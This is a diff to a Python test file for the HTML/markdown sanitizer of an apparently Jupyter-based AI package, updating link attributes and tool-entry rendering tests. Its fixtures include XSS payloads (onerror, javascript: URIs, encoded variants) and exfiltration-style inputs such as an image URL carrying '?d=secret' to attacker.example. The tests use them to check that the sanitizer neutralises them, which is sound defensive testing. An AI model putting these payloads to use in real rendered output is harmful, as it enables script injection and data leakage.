@@ -29,15 +29,20 @@ from jupyter_azure_ai.jupyter.render import (
 )
 from tests.html_allowlist import check
 
+EXTERNAL = 'target="_blank" rel="noopener noreferrer nofollow" referrerpolicy="no-referrer"'
+IMAGE_LINK = f'title="remote image, not loaded: open it in a new tab" {EXTERNAL}'
+
 
 def test_the_checker_can_fail() -> None:
     for bad in (
         '<img src=x onerror="alert(1)">',
         '<a href="javascript:alert(1)">x</a>',
-        '<a href="https://x" rel="noopener noreferrer nofollow" style="color:red">x</a>',
+        f'<a href="https://x" {EXTERNAL} style="color:red">x</a>',
         '<a href="https://x">no rel</a>',
-        '<a href="java\tscript:alert(1)" rel="noopener noreferrer nofollow">x</a>',
-        '<a href="&#106;avascript:alert(1)" rel="noopener noreferrer nofollow">x</a>',
+        '<a href="https://x" target="_blank" rel="noopener noreferrer nofollow">no policy</a>',
+        f'<a href="java\tscript:alert(1)" {EXTERNAL}>x</a>',
+        f'<a href="&#106;avascript:alert(1)" {EXTERNAL}>x</a>',
+        f'<a href="javascript:alert(1)" {EXTERNAL}>x</a>',
         '<img src="https://attacker.example/?d=secret" />',
         '<img src="data:image/svg+xml;base64,PHN2Zz4=" />',
         "<style>@import url(https://attacker.example/x.css)</style>",
@@ -281,26 +286,20 @@ def test_math_reaches_mathjax_as_written(tex: str) -> None:
         assert f'<span class="mathjax_process tex2jax_process">{source}</span>' in html
 
 
-def test_a_streamed_transcript_with_tool_entries_is_allowlisted() -> None:
-    from jupyter_azure_ai.jupyter.display import Transcript, bundle
-
-    transcript = Transcript()
-    transcript.add_text("Checking <img src=x onerror=1> **now**")
-    transcript.add_tool_line("get<b>", '{"q": "<script>"}', "$\\href{x}{y}$ \x1b[2J", False)
-    transcript.add_text("Done: [x](javascript:alert(1))")
-    final = bundle(transcript, "markdown", final=True)
-    assert set(final) == {"text/html", "text/plain"}
-    check(final["text/html"])
-    assert "<strong>now</strong>" in final["text/html"]
+def test_tool_entries_show_name_arguments_and_result_as_text() -> None:
+    args = ("get<b>", '{"q": "<script>"}', "$\\href{x}{y}$ \x1b[2J\nline 2", False)
+    html = render.tool_html(*args)
+    check(html)
     assert (
-        "🔧 <code>get&lt;b&gt;({&quot;q&quot;: &quot;&lt;script&gt;&quot;})</code>"
-        in final["text/html"]
+        "<summary>🔧 <code>get&lt;b&gt;({&quot;q&quot;: &quot;&lt;script&gt;&quot;})</code> → "
+        in html
     )
-    assert "␛[2J" in final["text/plain"] and "\x1b" not in final["text/plain"]
+    assert "<pre>$\\href{x}{y}$ ␛[2J\nline 2</pre>" in html  # no math class: never typeset
     assert (
-        transcript.text() == "Checking <img src=x onerror=1> **now**Done: [x](javascript:alert(1))"
+        render.tool_plain(*args)
+        == '\n[tool] get<b>({"q": "<script>"}) → $\\href{x}{y}$ ␛[2J line 2\n'
     )
-    assert set(bundle(transcript, "text", final=True)) == {"text/plain"}
+    assert "✗" in render.tool_html("t", "{}", "boom", True)
 
 
 # --- each payload family, explicitly ------------------------------------------------------
@@ -332,9 +331,8 @@ def body(text: str) -> str:
         ),
         (
             "<style>@import url(https://attacker.example/x.css); body{display:none}</style>",
-            '<p>&lt;style&gt;@import url(<a href="https://attacker.example/x.css" '
-            'target="_blank" rel="noopener noreferrer nofollow">https://attacker.example/x.css'
-            "</a>); body{display:none}&lt;/style&gt;</p>",
+            f'<p>&lt;style&gt;@import url(<a href="https://attacker.example/x.css" {EXTERNAL}>'
+            "https://attacker.example/x.css</a>); body{display:none}&lt;/style&gt;</p>",
         ),
         ("- <img src=x onerror=1>", "<ul>\n<li>&lt;img src=x onerror=1&gt;</li>\n</ul>"),
         (
@@ -388,52 +386,47 @@ def body(text: str) -> str:
         (
             '[x](https://example.com/a?b=1 "t")',
             '<p><a href="https://example.com/a?b=1" title="t" target="_blank" '
-            'rel="noopener noreferrer nofollow">x</a></p>',
+            'rel="noopener noreferrer nofollow" referrerpolicy="no-referrer">x</a></p>',
         ),
         (
             "[x][r]\n\n[r]: https://example.com",
             '<p><a href="https://example.com" target="_blank" '
-            'rel="noopener noreferrer nofollow">x</a></p>',
+            'rel="noopener noreferrer nofollow" referrerpolicy="no-referrer">x</a></p>',
         ),
         (
             "<https://example.com>",
             '<p><a href="https://example.com" target="_blank" '
-            'rel="noopener noreferrer nofollow">https://example.com</a></p>',
+            'rel="noopener noreferrer nofollow" referrerpolicy="no-referrer">https://example.com</a></p>',
         ),
         (
             "mail a@b.example",
             '<p>mail <a href="mailto:a@b.example" target="_blank" '
-            'rel="noopener noreferrer nofollow">a@b.example</a></p>',
+            'rel="noopener noreferrer nofollow" referrerpolicy="no-referrer">a@b.example</a></p>',
         ),
         ("[top](#intro)", '<p><a href="#intro">top</a></p>'),
         (
             '[x](https://x.example/"onmouseover="alert(1))',
             '<p><a href="https://x.example/%22onmouseover=%22alert(1)" target="_blank" '
-            'rel="noopener noreferrer nofollow">x</a></p>',
+            'rel="noopener noreferrer nofollow" referrerpolicy="no-referrer">x</a></p>',
         ),
         # images: remote ones become links naming the host; SVG never shows
         (
             "![chart](https://attacker.example/?d=SECRET)",
-            '<p><a href="https://attacker.example/?d=SECRET" target="_blank" '
-            'rel="noopener noreferrer nofollow" title="remote image, not loaded: open it in a new '
-            'tab">[image: chart · attacker.example]</a></p>',
+            f'<p><a href="https://attacker.example/?d=SECRET" {IMAGE_LINK}>'
+            "[image: chart · attacker.example]</a></p>",
         ),
         (
             "![](http://127.0.0.1:9/p.png)",
-            '<p><a href="http://127.0.0.1:9/p.png" target="_blank" rel="noopener noreferrer '
-            'nofollow" title="remote image, not loaded: open it in a new tab">[image · 127.0.0.1]'
-            "</a></p>",
+            f'<p><a href="http://127.0.0.1:9/p.png" {IMAGE_LINK}>[image · 127.0.0.1]</a></p>',
         ),
         (
             "![x][r]\n\n[r]: https://attacker.example/r.png",
-            '<p><a href="https://attacker.example/r.png" target="_blank" rel="noopener '
-            'noreferrer nofollow" title="remote image, not loaded: open it in a new tab">'
+            f'<p><a href="https://attacker.example/r.png" {IMAGE_LINK}>'
             "[image: x · attacker.example]</a></p>",
         ),
         (
             "[![x](https://attacker.example/i.png)](https://example.com)",
-            '<p><a href="https://example.com" target="_blank" rel="noopener noreferrer '
-            'nofollow">[image: x · attacker.example]</a></p>',
+            f'<p><a href="https://example.com" {EXTERNAL}>[image: x · attacker.example]</a></p>',
         ),
         ("![x](javascript:alert(1))", "<p>![x](javascript:alert(1))</p>"),
         (
